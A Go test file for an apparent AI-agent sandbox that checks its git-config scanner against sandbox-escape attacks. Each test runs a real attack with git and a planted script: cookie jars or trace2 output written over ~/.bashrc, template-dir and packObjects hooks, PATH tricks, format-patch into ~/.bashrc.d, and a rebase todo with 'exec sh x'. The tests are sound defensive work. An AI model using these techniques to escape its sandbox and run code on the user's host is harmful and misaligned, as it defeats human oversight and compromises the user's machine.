package sandbox

// A tenth hostile review: configuration keys the walk does not read
// (writes to a path, protected-config-only keys reached through the
// user's own include, newer git's commands), the base of a relative
// include in a file reached through a link, the user's own relative
// settings in a submodule, and PATH entries that lead into a mount. Each
// test runs the attack with real git where git 2.39 can (nothing leaves
// the machine: the HTTP one runs in an empty network namespace) and then
// asks the walk to record the file or cut.

// The dotfiles ~/.gitconfig (a link into a mount) including a file
// relative to ~ that this review left open is in the eleventh.

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/vibesandbox/vibe/workspace"
)

// walkCut is the walk's reason for cutting app short, or "".
func walkCut(t *testing.T, app string) string {
	t.Helper()
	f := gitHostRun([]workspace.Mount{{Source: app}}, nil)[app]
	if f == nil {
		return ""
	}
	t.Logf("rel=%q cut=%q", f.rel, f.cut)
	return f.cut
}

// userGlobal makes home/.gitconfig the user's global configuration,
// holding conf.
func userGlobal(t *testing.T, home, conf string) {
	t.Helper()
	writeFile(t, filepath.Join(home, ".gitconfig"), conf)
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(home, ".gitconfig"))
}

// G1 (high): http.cookieFile with http.saveCookies makes the host's git
// (libcurl) write its cookie jar, whose values the server sets, over any
// path (~ expanded): ~/.bashrc. The agent names the server (a remote,
// or an insteadOf of the user's own URL). Run in an empty network
// namespace against a server on its loopback.
func TestGitHostRunReview10CookieJar(t *testing.T) {
	home := gitEnv(t)
	app := t.TempDir()
	git(t, app, "init", "-q")
	git(t, app, "config", "include.path", "../team.gitconfig")
	writeFile(t, filepath.Join(app, "team.gitconfig"),
		"[http]\n\tcookieFile = ~/.bashrc\n\tsaveCookies = true\n[remote \"up\"]\n\turl = http://127.0.0.1:8765/r.git\n")
	ran := plant(t, filepath.Join(app, "x"))
	writeFile(t, filepath.Join(home, ".bashrc"), "# the user's\n")
	_, e1 := exec.LookPath("unshare")
	_, e2 := exec.LookPath("python3")
	_, e3 := exec.LookPath("ip")
	if e1 == nil && e2 == nil && e3 == nil {
		srv := filepath.Join(t.TempDir(), "srv.py")
		writeFile(t, srv, `import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Set-Cookie", "a=$(sh${IFS}`+filepath.Join(app, "x")+`); Path=/")
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", "0")
        self.end_headers()
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", 8765), H).serve_forever()
`)
		out, _ := exec.Command("unshare", "-rn", "sh", "-c",
			"ip link set lo up && { python3 "+srv+" & sleep 1; git -C "+app+" ls-remote up; kill $!; }").CombinedOutput()
		exec.Command("bash", "-c", ". ~/.bashrc").Run() // the user's next shell
		b, _ := os.ReadFile(filepath.Join(home, ".bashrc"))
		if !ranMark(t, ran) {
			t.Fatalf("control: the cookie jar did not run x: %s\n%s", out, b)
		}
		t.Logf("git ls-remote up wrote ~/.bashrc:\n%s", b)
	}
	if cut := walkCut(t, app); cut == "" {
		t.Errorf("http.cookieFile = ~/.bashrc with http.saveCookies: git writes a server's cookies over ~/.bashrc; not cut")
	}
}

// G2 (high): git takes a relative include.path relative to the path it
// opened the including file by (cf->path), not where a link leads. The
// agent's team.gitconfig is a link to conf/real.gitconfig, whose
// "path = evil.gitconfig" git reads at the project's root; vibe reads
// conf/evil.gitconfig (not there) instead.
func TestGitHostRunReview10IncludeThroughFileLink(t *testing.T) {
	app := teamConfig(t, "")
	os.Remove(filepath.Join(app, "team.gitconfig"))
	writeFile(t, filepath.Join(app, "conf", "real.gitconfig"), "[include]\n\tpath = evil.gitconfig\n")
	if err := os.Symlink("conf/real.gitconfig", filepath.Join(app, "team.gitconfig")); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(app, "evil.gitconfig"), "[core]\n\tfsmonitor = ./x\n")
	ran := plant(t, filepath.Join(app, "x"))
	out, _ := exec.Command("git", "-C", app, "status").CombinedOutput()
	ranAndCovered(t, app, "x", ran, out, "git status with team.gitconfig -> conf/real.gitconfig including evil.gitconfig")
}

// G3 (medium-high): keys git reads only from the user's own (global,
// system) configuration, which an include of the user's can take into a
// mount (an includeIf naming a team file, a dotfiles project).
// trace2.eventTarget appends JSON lines to any path, and configParams
// puts the agent's text into them: ~/.bashrc runs it.
func TestGitHostRunReview10Trace2Target(t *testing.T) {
	home := gitEnv(t)
	app := t.TempDir()
	git(t, app, "init", "-q")
	userGlobal(t, home, "[include]\n\tpath = "+filepath.Join(app, "team.gitconfig")+"\n")
	writeFile(t, filepath.Join(app, "team.gitconfig"), "[trace2]\n\teventTarget = "+filepath.Join(home, ".bashrc")+
		"\n\tconfigParams = x.*\n[x]\n\ty = \"$(sh "+filepath.Join(app, "x")+")\"\n")
	ran := plant(t, filepath.Join(app, "x"))
	out, _ := exec.Command("git", "-C", app, "status").CombinedOutput()
	exec.Command("bash", "-c", ". ~/.bashrc").Run()
	if !ranMark(t, ran) {
		t.Fatalf("control: trace2 did not run x: %s", out)
	}
	if cut := walkCut(t, app); cut == "" {
		t.Errorf("trace2.eventTarget = ~/.bashrc in an included team file: git appends the agent's $(...) to ~/.bashrc; not cut")
	}
}

// G3: init.templateDir from the same place: every git clone, anywhere,
// copies the template's hooks and runs post-checkout at once.
func TestGitHostRunReview10TemplateDir(t *testing.T) {
	home := gitEnv(t)
	app := t.TempDir()
	git(t, app, "init", "-q")
	git(t, app, "commit", "-q", "--allow-empty", "-m", "x")
	userGlobal(t, home, "[include]\n\tpath = "+filepath.Join(app, "team.gitconfig")+"\n")
	writeFile(t, filepath.Join(app, "team.gitconfig"), "[init]\n\ttemplateDir = "+filepath.Join(app, "tmpl")+"\n")
	ran := plant(t, filepath.Join(app, "tmpl", "hooks", "post-checkout"))
	out, _ := exec.Command("git", "clone", "-q", app, filepath.Join(t.TempDir(), "c")).CombinedOutput()
	ranAndCovered(t, app, "tmpl/hooks/post-checkout", ran, out, "git clone with init.templateDir in an included team file")
}

// G3: uploadpack.packObjectsHook from the same place: a clone or fetch
// from the project (git clone --no-local, a file:// remote) runs it.
func TestGitHostRunReview10PackObjectsHook(t *testing.T) {
	home := gitEnv(t)
	app := t.TempDir()
	git(t, app, "init", "-q")
	git(t, app, "commit", "-q", "--allow-empty", "-m", "x")
	userGlobal(t, home, "[include]\n\tpath = "+filepath.Join(app, "team.gitconfig")+"\n")
	writeFile(t, filepath.Join(app, "team.gitconfig"), "[uploadpack]\n\tpackObjectsHook = "+filepath.Join(app, "x")+"\n")
	ran := plant(t, filepath.Join(app, "x"))
	out, _ := exec.Command("git", "clone", "-q", "--no-local", app, filepath.Join(t.TempDir(), "c")).CombinedOutput()
	ranAndCovered(t, app, "x", ran, out, "git clone --no-local with uploadpack.packObjectsHook in an included team file")
}

// G5: a relative PATH entry (PATH=.:$PATH) finds git's default pager
// (less, named by no configuration) in the worktree: pathInMounts skips
// relative entries, and pathFiles looks only at configured commands.
func TestGitHostRunReview10PATHDotDefaultPager(t *testing.T) {
	app := committed(t)
	t.Setenv("GIT_PAGER", "")
	os.Unsetenv("GIT_PAGER")
	os.Unsetenv("PAGER")
	name := git(t, app, "var", "GIT_PAGER") // less; pager on Debian's git
	ran := plant(t, filepath.Join(app, name))
	t.Setenv("PATH", ".:"+os.Getenv("PATH"))
	out := logOnTerminal(app)
	ranAndCovered(t, app, name, ran, out, "git log's default pager ("+name+") with . in PATH")
}

// G4 (medium): the user's own relative settings (a global core.hooksPath
// = .githooks) hold in every repository, a submodule's too; the walk
// places them in the project's worktree only.
func TestGitHostRunReview10SubmoduleUserHooksPath(t *testing.T) {
	home := gitEnv(t)
	userGlobal(t, home, "[core]\n\thooksPath = .githooks\n")
	app, sub := projectWithSubmodule(t)
	ran := plant(t, filepath.Join(sub, ".githooks", "pre-commit"))
	out, _ := exec.Command("git", "-C", sub, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "y").CombinedOutput()
	ranAndCovered(t, app, "sub/.githooks/pre-commit", ran, out, "git commit in the submodule with the user's global core.hooksPath = .githooks")
}

// G5 (medium): a PATH folder that is a link into the mounts (~/bin ->
// ~/dotfiles/bin): pathInMounts compares the text only.
func TestGitHostRunReview10PATHLinkIntoProject(t *testing.T) {
	app := committed(t)
	ran := plant(t, filepath.Join(app, "bin", "less"))
	link := filepath.Join(t.TempDir(), "bin")
	os.Symlink(filepath.Join(app, "bin"), link)
	t.Setenv("PATH", link+":"+os.Getenv("PATH"))
	t.Setenv("GIT_PAGER", "less")
	out := logOnTerminal(app)
	ranAndCovered(t, app, "bin/less", ran, out, "git log's pager less through a PATH link into the project")
}

// G5: a literal ~ in PATH (PATH="~/proj/bin:$PATH", quoted), which bash
// (not in POSIX mode: a #!/bin/bash hook of the user's) expands when it
// looks a program up; pathInMounts skips it as relative.
func TestGitHostRunReview10PATHTilde(t *testing.T) {
	home := gitEnv(t)
	app := filepath.Join(home, "proj")
	os.MkdirAll(app, 0o755)
	git(t, app, "init", "-q")
	writeFile(t, filepath.Join(app, ".git", "hooks", "pre-commit"), "#!/bin/bash\ngofmt -l . >/dev/null\nexit 0\n")
	os.Chmod(filepath.Join(app, ".git", "hooks", "pre-commit"), 0o755)
	ran := plant(t, filepath.Join(app, "bin", "gofmt"))
	t.Setenv("PATH", "~/proj/bin:"+os.Getenv("PATH"))
	out, _ := exec.Command("git", "-C", app, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "x").CombinedOutput()
	ranAndCovered(t, app, "bin/gofmt", ran, out, "the user's bash pre-commit running gofmt with PATH=~/proj/bin")
}

// G6: keys not in gitKeys that run a program (newer git's
// gc.recentObjectsHook, git instaweb's httpd, git svn's authorsProg,
// the options send-email gives the user's sendmail, msmtp --file), or
// write outside the mounts (format-patch's folder; cookie jars by URL).
func TestGitHostRunReview10Keys(t *testing.T) {
	for _, tc := range []struct{ conf, runs string }{
		{"[gc]\n\trecentObjectsHook = ./x\n", "x"},                        // git >= 2.42, through sh, by git gc --auto
		{"[instaweb]\n\thttpd = sh x lighttpd\n", "x"},                    // git instaweb
		{"[svn]\n\tauthorsProg = ./x\n", "x"},                             // git svn fetch
		{"[sendemail]\n\tsmtpServerOption = --file=x\n", "x"},             // msmtp's passwordeval
		{"[remote \"o\"]\n\turl = evil::r\n", "git-remote-evil"},          // with . in PATH
		{"[url \"evil::\"]\n\tinsteadOf = https://\n", "git-remote-evil"}, // the user's own remotes too
	} {
		t.Setenv("PATH", ".:/usr/bin:/bin")
		app := teamConfig(t, tc.conf)
		if rec, cut := coveredOrCut(t, app, tc.runs); !rec && cut == "" {
			t.Errorf("%q: %s neither recorded nor cut", tc.conf, tc.runs)
		}
	}
	for _, conf := range []string{
		"[format]\n\toutputDirectory = /home/u/.bashrc.d\n",
		"[http \"https://example.invalid/\"]\n\tcookieFile = ~/.bashrc\n\tsaveCookies = true\n",
	} {
		app := teamConfig(t, conf)
		if cut := walkCut(t, app); cut == "" {
			t.Errorf("%q: writes outside the mounts; not cut", conf)
		}
	}
}

// G6 for real: git instaweb runs instaweb.httpd.
func TestGitHostRunReview10Instaweb(t *testing.T) {
	app := teamConfig(t, "[instaweb]\n\thttpd = sh x lighttpd\n")
	ran := plant(t, filepath.Join(app, "x"))
	cmd := exec.Command("git", "instaweb")
	cmd.Dir = app
	out, _ := cmd.CombinedOutput()
	ranAndCovered(t, app, "x", ran, out, "git instaweb with instaweb.httpd = sh x lighttpd")
}

// G6 for real: git remote-evil, from a relative PATH entry.
func TestGitHostRunReview10TransportHelper(t *testing.T) {
	app := teamConfig(t, "[remote \"o\"]\n\turl = evil::r\n")
	ran := plant(t, filepath.Join(app, "git-remote-evil"))
	t.Setenv("PATH", ".:"+os.Getenv("PATH"))
	out, _ := exec.Command("git", "-C", app, "fetch", "o").CombinedOutput()
	ranAndCovered(t, app, "git-remote-evil", ran, out, "git fetch o with remote.o.url = evil::r and . in PATH")
}

// G6 for real: format.outputDirectory puts the agent's commit (its
// subject, a "#" in its author's name ends the From: line) where a shell
// sources every file (Fedora's ~/.bashrc sources ~/.bashrc.d/*).
func TestGitHostRunReview10FormatPatchDir(t *testing.T) {
	dir := filepath.Join(t.TempDir(), ".bashrc.d") // ~/.bashrc.d
	app := teamConfig(t, "[format]\n\toutputDirectory = "+dir+"\n")
	ran := plant(t, filepath.Join(app, "x"))
	git(t, app, "add", "x")
	git(t, app, "-c", "user.name=a #", "commit", "-qm", "x $(sh "+filepath.Join(app, "x")+")")
	out, _ := exec.Command("git", "-C", app, "format-patch", "-q", "-1").CombinedOutput()
	o2, _ := exec.Command("bash", "-c", `for f in `+dir+`/*; do . "$f"; done`).CombinedOutput()
	out = append(out, o2...)
	if !ranMark(t, ran) {
		t.Fatalf("control: the patch did not run x: %s", out)
	}
	if cut := walkCut(t, app); cut == "" {
		t.Errorf("format.outputDirectory = ~/.bashrc.d: git format-patch writes the agent's subject into a sourced file; not cut")
	}
}

// G7 (low): git state, not configuration: an interactive rebase the
// agent leaves stopped, whose todo (.git/rebase-merge, not protected)
// holds "exec sh x"; the user's git rebase --continue runs it.
func TestGitHostRunReview10RebaseTodo(t *testing.T) {
	gitEnv(t)
	app := t.TempDir()
	git(t, app, "init", "-q")
	git(t, app, "commit", "-q", "--allow-empty", "-m", "a")
	git(t, app, "commit", "-q", "--allow-empty", "-m", "b")
	ran := plant(t, filepath.Join(app, "x"))
	cmd := exec.Command("git", "-C", app, "rebase", "-q", "-i", "HEAD~1")
	cmd.Env = append(os.Environ(), "GIT_SEQUENCE_EDITOR=printf 'break\\nexec sh x\\n' >")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("rebase: %v %s", err, out)
	}
	if ranMark(t, ran) {
		t.Fatal("ran before the user did anything")
	}
	out, _ := exec.Command("git", "-C", app, "rebase", "--continue").CombinedOutput()
	ranAndCovered(t, app, "x", ran, out, "git rebase --continue of an agent's stopped rebase")
}

// G9 (high): the user's own hooks folder (core.hooksPath = .githooks,
// read-only in the sandbox) holds a hook that is a link to a script
// elsewhere in the project (.githooks/pre-commit -> ../scripts/pre-commit.sh).
// A link in .git/hooks is followed (followLinks); one in a hooks path
// folder is not: the script, which git runs, is the agent's to write.
func TestGitHostRunReview10HooksPathLinkedHook(t *testing.T) {
	gitEnv(t)
	app := t.TempDir()
	git(t, app, "init", "-q")
	git(t, app, "config", "core.hooksPath", ".githooks")
	ran := plant(t, filepath.Join(app, "scripts", "pre-commit.sh"))
	os.MkdirAll(filepath.Join(app, ".githooks"), 0o755)
	if err := os.Symlink("../scripts/pre-commit.sh", filepath.Join(app, ".githooks", "pre-commit")); err != nil {
		t.Fatal(err)
	}
	out, _ := exec.Command("git", "-C", app, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "x").CombinedOutput()
	ranAndCovered(t, app, "scripts/pre-commit.sh", ran, out, "git commit with .githooks/pre-commit -> ../scripts/pre-commit.sh")
}

// A bare saveCookies is true to git: it cuts too.
func TestParseGitConfigBareSaveCookies(t *testing.T) {
	needGit(t)
	c, ok := parseGitConfig(t.Context(), []byte("[http]\n\tcookieFile = ~/.bashrc\n\tsaveCookies\n"))
	if !ok || c.opaque != "http.savecookies" {
		t.Errorf("bare http.saveCookies: opaque %q, ok %v; want it cut", c.opaque, ok)
	}
}
